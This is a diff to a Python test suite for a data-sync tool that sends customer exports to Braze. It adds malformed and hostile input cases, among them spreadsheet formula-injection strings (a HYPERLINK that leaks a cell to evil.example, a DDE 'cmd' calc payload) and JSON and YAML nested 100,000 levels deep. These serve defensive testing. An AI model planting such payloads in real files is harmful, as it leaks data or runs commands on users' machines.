@@ -201,7 +201,19 @@ REFUSED: list[Refused] = [
     Refused("ragged_row", export("shoppers.csv", GOOD_CSV + "use_4,u4,d@example.com,true,Hat,1,EXTRA\n"),
             text="expected 6 fields", where={"file": True, "line": 5}),
     Refused("unterminated_quote", export("shoppers.csv", GOOD_CSV + 'use_4,u4,"d@example.com,true\n'),
-            text="quote|fields|not a readable|cut off", where={"file": True}),
+            text="quote opened on line 5 .* never closed", where={"file": True, "line": 5,
+                                                                  "column": "email"}),
+    Refused("unterminated_quote_runs_into_next_row",
+            export("shoppers.csv", GOOD_CSV + 'use_4,u4,"d@example.com,true,Hat,1\n'
+                                              "use_5,u5,e@example.com,true,Cap,2\n"),
+            text="never closed", where={"file": True, "line": 5, "column": "email"}),
+    Refused("unterminated_quote_swallows_later_rows",
+            export("shoppers.csv", "key,note\nuse_1,ok\nuse_2,\"abc\nuse_3,x\nuse_4,y\n"),
+            text="never closed", where={"file": True, "line": 3, "column": "note"}),
+    Refused("unterminated_quote_at_end_of_file",
+            export("shoppers.csv", GOOD_CSV + 'use_4,u4,d@example.com,true,Hat,"1'),
+            text="never closed", where={"file": True, "line": 5,
+                                        "column": "total_revenue_180_days"}),
     Refused("no_identifier_column", export("shoppers.csv", "first_name,score\nAna,1\n"),
             text="no identifier column", where={"file": True, "line": 1}),
     Refused("row_without_key", export("shoppers.csv", "key,user_id\nuse_1,u1\n,u2\n"),
@@ -240,8 +252,19 @@ REFUSED: list[Refused] = [
             text="JSON object", where={"file": True, "line": 2}),
     Refused("json_top_level_string", export("events.json", '"hello"'), text="JSON object|no rows",
             where={"file": True}),
+    Refused("batch_not_a_list", export("batch.json", '{"batch": {"type": "identify"}}'),
+            text="'batch' must be a list of messages, found an object",
+            where={"file": True, "field": "batch", "batch": 1}),
+    Refused("batch_is_null", export("batch.json", '{"batch": null, "sentAt": "2026-01-01"}'),
+            text="'batch' must be a list of messages, found null",
+            where={"file": True, "field": "batch"}),
+    Refused("ndjson_line_batch_not_a_list", export("events.ndjson", _ndjson(
+        _msg("u1", "vip", True, klass="audience")) + '{"batch": "u2"}\n'),
+            text="'batch' must be a list of messages, found text",
+            where={"file": True, "line": 2, "field": "batch"}),
     Refused("batch_entry_not_object", export("batch.json", '{"batch": [1, 2]}'),
-            text="batch entry", where={"file": True, "field": "batch"}),
+            text=r"batch entry is not a JSON object \(batch 1, message 1 is a number",
+            where={"file": True, "field": "batch"}),
     Refused("no_engage_messages", export("events.ndjson", _ndjson(
         {"type": "track", "userId": "u1", "event": "Order Completed", "properties": {}})),
         text="no Engage", where={"file": True}),
@@ -300,6 +323,18 @@ REFUSED: list[Refused] = [
             {"file": True}),
     Refused("yaml_path_is_a_directory", _mapping_dir, MappingError, "directory|read|file",
             {"file": True}),
+    Refused("mapping_json_nested_100k_deep",
+            mapping('{"version": 1, "rules": ' + "[" * 100_000 + "]" * 100_000 + "}"),
+            MappingError, "nested too deeply", {"file": True}),
+    Refused("mapping_yaml_block_nested_3k_deep",
+            mapping("rules:\n" + "".join("  " * i + "-\n" for i in range(3_000))),
+            MappingError, "nested too deeply", {"file": True}),
+    Refused("mapping_yaml_flow_nested_5k_deep",
+            mapping("version: 1\nrules: " + "{a: " * 5_000 + "1" + "}" * 5_000 + "\n"),
+            MappingError, "nested too deeply", {"file": True}),
+    Refused("mapping_field_nested_50_deep", mapping(RULE + "    attribute: " + "[" * 50
+                                                    + "]" * 50 + "\n"),
+            MappingError, "must be text", {"file": True, "field": "attribute"}),
 ]
 
 
@@ -647,12 +682,216 @@ def test_control_characters_in_a_key_are_left_out(tmp_path):
     assert _sent_values(p, "ok_trait") == [1] and report.ok
 
 
+# ---------------------------------------------------------------------------------------------
+# the corpus of dirty inputs: each loads, says exactly what is odd where, and sends only
+# what Braze can take
+
+
+@dataclass
+class Expect:
+    """A finding the input must produce: its code, column, rows and message (regex)."""
+
+    code: str
+    column: "str | None"
+    rows: "list[int] | None"      # the rows of every finding of this code and column
+    text: str = ""
+
+
+@dataclass
+class Dirty:
+    """One loadable-but-dirty input: how to make it, the findings it must produce, and what
+    the sync must send for one attribute (sorted JSON values) and leave out (segment ids)."""
+
+    id: str
+    make: Callable[[Path], dict]
+    expect: list
+    sent: "tuple[str, list] | None" = None
+    left_out: "list[str] | None" = None
+    changes: dict = field(default_factory=dict)
+    absent: tuple = ()            # codes that must not appear
+
+
+def csv_rows(column: str, cells: list, name: str = "shoppers.csv") -> Callable[[Path], dict]:
+    """A formatted CSV of one trait column, one profile per cell (use_1/u1 …)."""
+    body = "".join(f"use_{i},u{i},{c}\n" for i, c in enumerate(cells, start=1))
+    return export(name, f"key,user_id,{column}\n" + body, computation_key="shoppers")
+
+
+def _quoted(cells: list) -> list:
+    return ['"' + c.replace('"', '""') + '"' for c in cells]
+
+
+def _ndjson_literals(key: str, literals: list) -> str:
+    return "".join('{"type":"identify","userId":"u%d","traits":{"%s":%s},"timestamp":'
+                   '"2026-11-01T00:00:00Z","context":{"personas":{"computation_key":"%s",'
+                   '"computation_class":"trait"}}}\n' % (i, key, lit, key)
+                   for i, lit in enumerate(literals, start=1))
+
+
+def _parquet_with_nan(tmp: Path) -> dict:
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    d = tmp / "ps"
+    d.mkdir()
+    ids = ["use_1", "use_2", "use_3"]
+    pq.write_table(pa.table({"canonical_segment_id": ids,
+                             "ltv": pa.array([1.5, float("nan"), 3.0])}),
+                   d / "profile_traits.parquet")
+    pq.write_table(pa.table({"canonical_segment_id": ids, "external_id_type": ["user_id"] * 3,
+                             "external_id_value": ["u1", "u2", "u3"]}),
+                   d / "external_id_mapping.parquet")
+    return {"export": d, "load": {}}
+
+
+BLANK = "read as blank, like an empty cell"
+LEFT_OUT = "left out: nothing is sent for it"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+
+DIRTY: list[Dirty] = [
+    # -- odd values in number columns: the column stays numeric, each odd value is said out loud
+    Dirty("csv_nan_after_a_number", csv_rows("revenue", ["12.5", "nan", "7"]),
+          [Expect("non_finite_number", "revenue", [2], "NaN .*" + BLANK)],
+          sent=("revenue", [7, 12.5]), absent=("type_drift",)),
+    Dirty("csv_nan_spellings", csv_rows("revenue", ["1", "NaN", "-nan", "NAN", "2"]),
+          [Expect("non_finite_number", "revenue", [2, 3, 4], "NaN")], sent=("revenue", [1, 2])),
+    Dirty("csv_inf", csv_rows("revenue", ["5", "inf", "7"]),
+          [Expect("non_finite_number", "revenue", [2], r"\+inf .*" + LEFT_OUT)],
+          sent=("revenue", [5, 7]), left_out=["use_2"]),
+    Dirty("csv_minus_infinity", csv_rows("revenue", ["5", "-Infinity", "7"]),
+          [Expect("non_finite_number", "revenue", [2], "-inf .*" + LEFT_OUT)],
+          sent=("revenue", [5, 7]), left_out=["use_2"]),
+    Dirty("csv_overflow_1e999", csv_rows("revenue", ["5", "1e999", "-1e999", "7"]),
+          [Expect("non_finite_number", "revenue", [2, 3], "inf")], sent=("revenue", [5, 7])),
+    Dirty("csv_nan_inf_minus_inf_together",
+          csv_rows("revenue", ["12.5", "nan", "inf", "-inf", "7"]),
+          [Expect("non_finite_number", "revenue", [2, 3, 4])], sent=("revenue", [7, 12.5])),
+    Dirty("csv_one_stray_text_value", csv_rows("revenue", ["12.5", "abc", "7", "9"]),
+          [Expect("type_drift", "revenue", [2], "'abc'; " + BLANK)],
+          sent=("revenue", [7, 9, 12.5])),
+    Dirty("csv_nan_inf_and_text", csv_rows("revenue", ["12.5", "nan", "inf", "oops", "7"]),
+          [Expect("non_finite_number", "revenue", [2, 3]),
+           Expect("type_drift", "revenue", [4], "'oops'")], sent=("revenue", [7, 12.5])),
+    Dirty("csv_column_of_nan_alone", csv_rows("revenue", ["nan", "nan", "NaN"]),
+          [Expect("non_finite_number", "revenue", [1, 2, 3], BLANK)], sent=("revenue", [])),
+    Dirty("csv_odd_value_far_down",
+          csv_rows("score", [str(i) for i in range(3_000)] + ["nan", "x"]),
+          [Expect("non_finite_number", "score", [3_001]), Expect("type_drift", "score", [3_002])]),
+    Dirty("csv_text_column_mixed_with_numbers", csv_rows("revenue", ["abc", "12.5", "xyz", "7"]),
+          [Expect("mixed_types", "revenue", [2], "sent as text")],
+          sent=("revenue", ["12.5", "7", "abc", "xyz"])),
+    Dirty("csv_text_column_saying_infinity", csv_rows("tier", ["Infinity", "Gold", "Silver"]),
+          [], sent=("tier", ["Gold", "Infinity", "Silver"]),
+          absent=("non_finite_number", "mixed_types")),
+    Dirty("csv_signed_numbers", csv_rows("delta", ["-5", "+3", "-0.5"]), [],
+          sent=("delta", [-5, -0.5, 3]), absent=("formula_text", "type_drift")),
+    # -- booleans neither true nor false
+    Dirty("csv_boolean_maybe_and_7", csv_rows("opted_in", ["true", "maybe", "7", "false", "TRUE"]),
+          [Expect("type_drift", "opted_in", [2, 3], "neither true nor false: '(maybe|7)'; "
+                  + BLANK)], sent=("opted_in", [False, True, True])),
+    Dirty("ndjson_boolean_trait_maybe", export("events.ndjson", _ndjson(
+        _msg("u1", "opted_in", True), _msg("u2", "opted_in", "maybe"),
+        _msg("u3", "opted_in", False))),
+          [Expect("type_drift", "opted_in", [2], "'maybe'")], sent=("opted_in", [False, True])),
+    # -- NaN / Infinity in JSON
+    Dirty("ndjson_nan_infinity_literals",
+          export("events.ndjson", _ndjson_literals("revenue", ["5", "NaN", "Infinity",
+                                                              "-Infinity", "1e400", "8"])),
+          [Expect("non_finite_number", "revenue", [2, 3, 4, 5])], sent=("revenue", [5, 8]),
+          left_out=["user_id:u3", "user_id:u4", "user_id:u5"]),
+    Dirty("unformatted_csv_json_nan", export("shoppers.csv", (
+        'key,external_ids,traits\n'
+        'use_1,"{""user_id"": [""u1""]}","{""ltv"": 5}"\n'
+        'use_2,"{""user_id"": [""u2""]}","{""ltv"": NaN}"\n')),
+          [Expect("non_finite_number", "ltv", [2], "NaN")], sent=("ltv", [5])),
+    Dirty("profiles_sync_parquet_nan", _parquet_with_nan,
+          [Expect("non_finite_number", "ltv", [2], "NaN")], sent=("ltv", [1.5, 3])),
+    # -- text a spreadsheet would run: reported, sent verbatim
+    Dirty("csv_formula_hyperlink", csv_rows("note", _quoted([HYPERLINK, "fine"])),
+          [Expect("formula_text", "note", [1], "spreadsheet formula .* sent to Braze as text")],
+          sent=("note", sorted([HYPERLINK, "fine"]))),
+    Dirty("csv_formula_prefixes",
+          csv_rows("note", _quoted(["+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                                    "\t=cmd", "plain", "+1 (555) 010-0100", "-5"])),
+          [Expect("formula_text", "note", [1, 2, 3, 4])]),
+    Dirty("csv_formula_column_name",
+          export("shoppers.csv", 'key,user_id,"=cmd|calc"\nuse_1,u1,x\n',
+                 computation_key="shoppers"),
+          [Expect("formula_text", "=cmd|calc", [None], "column name")]),
+    Dirty("ndjson_formula_value", export("events.ndjson", _ndjson(
+        _msg("u1", "note", "ok"), _msg("u2", "note", "=1+1"))),
+          [Expect("formula_text", "note", [2])], sent=("note", ["=1+1", "ok"])),
+    # -- where findings are in batch envelopes
+    Dirty("batch_envelope_findings_located", export("batch.json", json.dumps({"batch": [
+        _msg("u1", "score", 5), _msg("u2", "score", "lots"), _msg("u3", "score", 7)]},
+        indent=2)),
+          [Expect("type_drift", "score", [2], "^batch 1, message 2: ")], sent=("score", [5, 7])),
+    Dirty("ndjson_of_batch_envelopes_located", export("batches.ndjson", json.dumps(
+        {"batch": [_msg("u1", "score", 5)]}) + "\n" + json.dumps(
+        {"batch": [_msg("u2", "score", 6), _msg("u3", "score", "NaN?")]}) + "\n"),
+          [Expect("type_drift", "score", [3], "^line 2, batch 2, message 2: ")],
+          sent=("score", [5, 6])),
+    # -- merged duplicates say what was kept and dropped
+    Dirty("csv_duplicate_rows_disagree",
+          export("shoppers.csv", "key,user_id,score\nuse_1,u1,5\nuse_1,u1,6\nuse_2,u2,1\n",
+                 computation_key="shoppers"),
+          [Expect("duplicate_profile", "key", [1], r"rows 1 and 2; .*score kept 5 \(row 1\), "
+                                                   r"dropped 6 \(row 2\)")],
+          sent=("score", [1, 5])),
+    # -- quotes that are tolerable
+    Dirty("csv_stray_quote_inside_a_value",
+          export("shoppers.csv", 'key,user_id,note\nuse_1,u1,5" screen\nuse_2,u2,x\n',
+                 computation_key="shoppers"), [], sent=("note", ['5" screen', "x"])),
+    Dirty("csv_line_break_inside_quotes",
+          export("shoppers.csv", 'key,user_id,note\nuse_1,u1,"two\nlines"\nuse_2,u2,x\n',
+                 computation_key="shoppers"), [], sent=("note", ["two\nlines", "x"])),
+]
+
+
+@pytest.mark.parametrize("case", DIRTY, ids=[c.id for c in DIRTY])
+def test_dirty_input_says_what_is_odd_and_sends_only_what_braze_takes(case: Dirty, tmp_path):
+    inputs = case.make(tmp_path)
+    exp, p, report, _, _ = _sync(tmp_path, inputs["export"], mapping_changes=case.changes,
+                                 **inputs.get("load", {}))
+    for e in case.expect:
+        found = [f for f in exp.findings.of(e.code) if f.column == e.column]
+        assert found, f"{case.id}: no {e.code} finding for {e.column!r}: {exp.findings}"
+        if e.rows is not None:
+            assert sorted(found, key=lambda f: f.row or 0) and \
+                [f.row for f in sorted(found, key=lambda f: f.row or 0)] == e.rows, \
+                f"{case.id}: {e.code} rows {[f.row for f in found]}, expected {e.rows}"
+        for f in found:
+            assert re.search(e.text, f.message), f"{case.id}: {f.message!r} !~ {e.text!r}"
+            assert f.fix, f"{case.id}: {e.code} finding without a fix"
+    for code in case.absent:
+        assert not exp.findings.of(code), f"{case.id}: unexpected {exp.findings.of(code)}"
+    if case.sent is not None:
+        name, values = case.sent
+        assert sorted(_sent_values(p, name), key=repr) == sorted(values, key=repr), case.id
+    if case.left_out is not None:
+        assert set(case.left_out) <= set(p.left_out["segment_id"]), (case.id, p.left_out)
+    # no NaN or infinity ever reaches Braze (json reads them as the constants NaN, Infinity)
+    def no_constant(name):
+        raise AssertionError(f"{case.id}: {name} in a planned value")
+    for v in p.operations["value"]:
+        json.loads(v, parse_constant=no_constant)
+    assert report.ok, case.id
+
+
 def test_corpus_size():
-    """The issue asks for at least 40 malformed or hostile inputs."""
+    """At least 60 malformed or hostile input files, each with an asserted error or finding."""
     dirty = [n for n in globals() if n.startswith("test_") and n not in (
         "test_refused_clearly_quickly_and_without_sending", "test_hand_edited_plan_is_refused",
-        "test_damaged_plan_file_names_the_file", "test_corpus_size")]
-    assert len(REFUSED) + len(PLAN_EDITS) + 3 + len(dirty) >= 40
+        "test_damaged_plan_file_names_the_file", "test_corpus_size",
+        "test_dirty_input_says_what_is_odd_and_sends_only_what_braze_takes")]
+    assert len(REFUSED) + len(DIRTY) >= 60
+    assert len(REFUSED) + len(PLAN_EDITS) + 3 + len(DIRTY) + len(dirty) >= 100
+    ids = {c.id for c in REFUSED} | {c.id for c in DIRTY}
+    for needed in ("csv_nan_after_a_number", "csv_inf", "csv_one_stray_text_value",
+                   "csv_boolean_maybe_and_7", "csv_formula_hyperlink", "batch_not_a_list",
+                   "unterminated_quote", "mapping_json_nested_100k_deep",
+                   "batch_envelope_findings_located", "csv_duplicate_rows_disagree"):
+        assert needed in ids
 
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
